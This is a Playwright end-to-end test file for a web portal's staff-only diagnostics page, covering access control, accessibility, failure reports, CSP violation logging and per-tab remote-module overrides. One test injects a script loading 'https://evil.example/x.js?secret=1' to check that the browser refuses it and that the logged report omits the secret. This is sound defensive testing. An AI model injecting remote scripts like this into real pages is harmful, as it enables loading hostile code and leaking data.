import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser, BrowserContext, Page } from 'playwright/test';
import { registryEntry } from '../../shared/build/src/release/registry-file.ts';
import { signInByApi } from '../account.ts';
import { audit } from '../axe.ts';
import { deploy, ownReleases } from '../federation/releases.ts';
import { expect, newContext, openSignedIn, test } from '../fixtures.ts';
import { tooWide } from '../journeys/screens.ts';
import { freePort, type RunningServer, startServer } from '../server.ts';
import { labelled, textOf } from '../texts.ts';
import { buildReports, type FileServer, serveFolder } from './colleague.ts';

const STAFF = 'staff@certdeck.test';
const text = (key: string) => {
  const file = join(import.meta.dirname, '../../host/src/pages/staff/locales/zh.json');
  const found = (JSON.parse(readFileSync(file, 'utf8')) as Record<string, string>)[key];
  if (found === undefined) throw new Error(`no text ${key}`);
  return found;
};
const listOf = (key: string) => text('list').replace('{what}', text(key));
const heading = (page: Page) => page.getByRole('main').getByRole('heading', { level: 1 });
const bar = (page: Page) => page.getByRole('region', { name: text('bar.label') });

test.describe.serial('staff', () => {
  const releases = ownReleases();
  const work = mkdtempSync(join(tmpdir(), 'certdeck-staff-'));
  let portal: RunningServer;
  let colleague: FileServer;
  let local: string;
  let stranger: FileServer;
  let context: BrowserContext;
  let page: Page;

  async function openStaff(browser: Browser): Promise<BrowserContext> {
    const token = await signInByApi(portal.url, STAFF);
    const opened = await newContext(browser, {});
    await opened.addInitScript((value) => {
      if (!localStorage.getItem('signed-out-by-test')) localStorage.setItem('token', value);
    }, token);
    return opened;
  }

  test.beforeAll(async ({ browser }) => {
    test.setTimeout(1_080_000);
    const deployed = await buildReports(releases);
    deploy(releases, (remotes) => [...remotes, registryEntry('reports', deployed, releases)]);
    local = await buildReports(join(work, 'colleague'), '同事的报表');
    colleague = await serveFolder(join(work, 'colleague'));
    stranger = await serveFolder(join(work, 'colleague'));
    portal = await startServer({
      dataFolder: join(work, 'data'),
      port: await freePort(),
      env: { RELEASES_DIR: releases, OVERRIDE_ORIGINS: colleague.origin },
    });
    context = await openStaff(browser);
    page = await context.newPage();
  });

  test.afterAll(async () => {
    await context?.close();
    await portal?.stop();
    await colleague?.stop();
    await stranger?.stop();
    for (const folder of [releases, work]) rmSync(folder, { recursive: true, force: true });
  });

  test('have a page that no customer can open', async ({ browser }) => {
    const customer = await openSignedIn(browser, {}, portal.url);
    await customer.goto(`${portal.url}/__portal`);
    await expect(customer).toHaveURL(`${portal.url}/404`);
    const token = await signInByApi(portal.url);
    const refused = await customer.request.post(`${portal.url}/__portal/overrides`, {
      headers: { token },
      data: { origins: [colleague.origin] },
    });
    expect(refused.status()).toBe(404);
    expect(refused.headers()['set-cookie']).toBeUndefined();
    // Whoever writes it into the tab by hand gets the deployed release and a policy that lets nothing else in.
    await customer.evaluate(
      ([id, address]) => sessionStorage.setItem('certdeck.overrides', JSON.stringify([{ id, address }])),
      ['reports', `${colleague.origin}/remotes/reports/${local}/`] as const,
    );
    await customer.goto(`${portal.url}/reports/overview`);
    await expect(heading(customer)).toHaveText('月度报表');
    await expect(bar(customer)).toContainText('已部署的版本');
    await expect(bar(customer)).toContainText(text('bar.idle'));
    await expect(bar(customer)).not.toContainText(text('bar.title'));
    expect(colleague.asked).toEqual([]);
    await customer.context().close();
  });

  test('are led there by the account menu with the keyboard alone, and a customer’s menu has no such line', async ({
    browser,
  }) => {
    const customer = await openSignedIn(browser, {}, portal.url);
    for (const one of [customer, page]) {
      await one.goto(`${portal.url}/help/overview`);
      await expect(heading(one)).toBeVisible();
      const account = textOf('host', 'zh', 'shell.account');
      // It carries who is signed in once that is known.
      const trigger = one.getByRole('banner').getByRole('button', { name: labelled('zh', account, '') });
      await trigger.focus();
      await one.keyboard.press('Enter');
      await expect(one.getByRole('menuitem', { name: textOf('host', 'zh', 'nav.sign-out') })).toBeVisible();
    }
    const name = textOf('host', 'zh', 'nav.portal');
    await expect(customer.getByRole('menuitem', { name })).toHaveCount(0);
    await customer.context().close();
    const entry = page.getByRole('menuitem', { name });
    // Areas add their entries when the menu is opened.
    await expect(page.getByRole('menuitem', { name: textOf('account', 'zh', 'secure.title') })).toBeVisible();
    const focused = () => page.evaluate(() => document.activeElement?.textContent ?? '');
    for (let step = 0; step < 8 && (await focused()) !== name; step += 1) {
      const before = await focused();
      await page.keyboard.press('ArrowDown');
      await expect.poll(focused).not.toBe(before);
    }
    await expect(entry).toBeFocused();
    await page.keyboard.press('Enter');
    await expect(page).toHaveURL(`${portal.url}/__portal`);
    await expect(heading(page)).toHaveText(name);
  });

  test('see what a tab has loaded, by remote and step, without a finding of axe', async () => {
    await page.goto(`${portal.url}/reports/overview`);
    await expect(heading(page)).toHaveText('月度报表');
    await page.evaluate(() => {
      history.pushState(null, '', '/__portal');
      dispatchEvent(new PopStateEvent('popstate', { state: null }));
    });
    const files = page.getByRole('table', { name: '报表的文件' });
    for (const name of [/^entry\.js/, /^screen-overview\.js/])
      await expect(files.getByRole('cell', { name })).toBeVisible();
    await expect(page.getByRole('table', { name: listOf('versions.title') })).toContainText('team-reports');
    const shared = page.getByRole('table', { name: listOf('shared.title') });
    await expect(
      shared.getByRole('row', { name: /^@certdeck\/ui \d.*certdeck_host.*certdeck_reports/ }),
    ).toBeVisible();
    await page.emulateMedia({ reducedMotion: 'reduce' });
    for (const view of ['tab', 'all', 'overrides']) {
      await page.goto(`${portal.url}/__portal?view=${view}`);
      await expect(page.getByRole('tabpanel')).toBeVisible();
      await expect(page.getByRole('tabpanel').locator('[aria-busy=true]')).toHaveCount(0);
      for (const width of [1280, 360]) {
        expect(await tooWide(page, width), `${view} at ${width}`).toEqual([]);
        await page.emulateMedia({ colorScheme: 'light' });
        expect(await audit(page), `${view} at ${width}`).toEqual([]);
      }
      await page.emulateMedia({ colorScheme: 'dark' });
      expect(await audit(page, { rules: ['color-contrast'] }), `${view} in the dark`).toEqual([]);
    }
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.emulateMedia({ colorScheme: 'light' });
  });

  test('see what failed for a customer, and what a browser refused', async ({ browser }) => {
    const customer = await openSignedIn(browser, {}, portal.url);
    await customer.route('**/remotes/reports/**/screen-overview.js', (route) => route.abort());
    const report = customer.waitForResponse((answer) => answer.url().endsWith('/telemetry'));
    await customer.goto(`${portal.url}/reports/overview`);
    await expect(customer.getByRole('main').getByRole('alert')).toContainText('CHUNK');
    expect((await report).status()).toBe(204);
    await customer.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js?secret=1';
      document.head.append(script);
    });

    await page.goto(`${portal.url}/__portal?view=all&remote=reports`);
    const failures = page.getByRole('table', { name: listOf('failures.all') });
    const row = failures.getByRole('row', { name: /CHUNK/ }).first();
    await expect(row).toContainText('team-reports');
    await page.getByLabel(text('failures.code')).selectOption('RENDER');
    await expect(page.getByText(text('failures.all.none'))).toBeVisible();
    // The browser reports in its own time.
    await expect(async () => {
      await page.goto(`${portal.url}/__portal?view=all`);
      const refused = page.getByRole('table', { name: listOf('csp.title') });
      await expect(refused).toContainText('https://evil.example/x.js', { timeout: 90_000 });
      await expect(refused).not.toContainText('secret');
    }).toPass();
    // Not sooner: with it goes a report that hasn't been sent.
    await customer.context().close();
  });

  test('can’t take a remote from an origin that isn’t listed', async () => {
    await page.goto(`${portal.url}/__portal?view=overrides`);
    await page.getByRole('combobox', { name: text('failures.remote') }).selectOption('reports');
    await page.getByLabel(text('overrides.address')).fill(stranger.origin);
    await page.getByRole('button', { name: text('overrides.start') }).click();
    await expect(page.getByText(text('overrides.NOT_LISTED'))).toBeVisible();
    expect(stranger.asked).toEqual([]);
  });

  test('take a remote from a listed origin, in that tab alone', async () => {
    await page.getByLabel(text('overrides.address')).fill(`${colleague.origin}/remotes/reports/${local}/`);
    await page.getByRole('button', { name: text('overrides.start') }).click();
    await expect(bar(page)).toContainText(text('bar.title'));
    await expect(bar(page)).toContainText(`reports 来自 ${colleague.origin}`);
    await page.goto(`${portal.url}/reports/overview`);
    await expect(heading(page)).toHaveText('同事的报表');
    expect(colleague.asked.some((path) => path.endsWith('/entry.js'))).toBe(true);
    await page.goto(`${portal.url}/orders/list`);
    await expect(bar(page)).toBeVisible();

    const other = await context.newPage();
    await other.goto(`${portal.url}/reports/overview`);
    await expect(heading(other)).toHaveText('月度报表');
    await expect(bar(other)).toHaveCount(0);
    await other.close();
  });

  test('are held to the preflight with it', async () => {
    const file = join(work, 'colleague/remotes/reports', local, 'manifest.json');
    const manifest = readFileSync(file, 'utf8');
    writeFileSync(file, manifest.replace('"^1.0"', '"^9.0"'));
    colleague.asked.length = 0;
    await page.goto(`${portal.url}/reports/overview`);
    await expect(page.getByRole('main').getByRole('alert')).toContainText('INCOMPATIBLE');
    expect(colleague.asked.filter((path) => !path.endsWith('manifest.json'))).toEqual([]);
    writeFileSync(file, manifest);
  });

  test('end it by the bar, and lose it with the sign-out', async () => {
    await page.goto(`${portal.url}/reports/overview`);
    await expect(heading(page)).toHaveText('同事的报表');
    await bar(page)
      .getByRole('button', { name: text('bar.end') })
      .click();
    await expect(heading(page)).toHaveText('月度报表');
    await expect(bar(page)).toHaveCount(0);

    await page.goto(`${portal.url}/__portal?view=overrides`);
    await page.getByRole('combobox', { name: text('failures.remote') }).selectOption('reports');
    await page.getByLabel(text('overrides.address')).fill(`${colleague.origin}/remotes/reports/${local}/`);
    await page.getByRole('button', { name: text('overrides.start') }).click();
    await expect(bar(page)).toBeVisible();
    await page.evaluate(() => localStorage.setItem('signed-out-by-test', '1'));
    await page.getByRole('banner').getByRole('button').last().click();
    await page.getByRole('menuitem', { name: '退出' }).click();
    await expect(page).toHaveURL(/\/sign-in$/);
    await expect(bar(page)).toHaveCount(0);
    expect(await page.evaluate(() => sessionStorage.getItem('certdeck.overrides'))).toBeNull();

    const token = await signInByApi(portal.url, STAFF);
    await page.evaluate((value) => localStorage.setItem('token', value), token);
    const answer = await page.goto(`${portal.url}/reports/overview`);
    expect((await answer?.allHeaders())?.['content-security-policy']).not.toContain(colleague.origin);
    await expect(heading(page)).toHaveText('月度报表');
  });
});
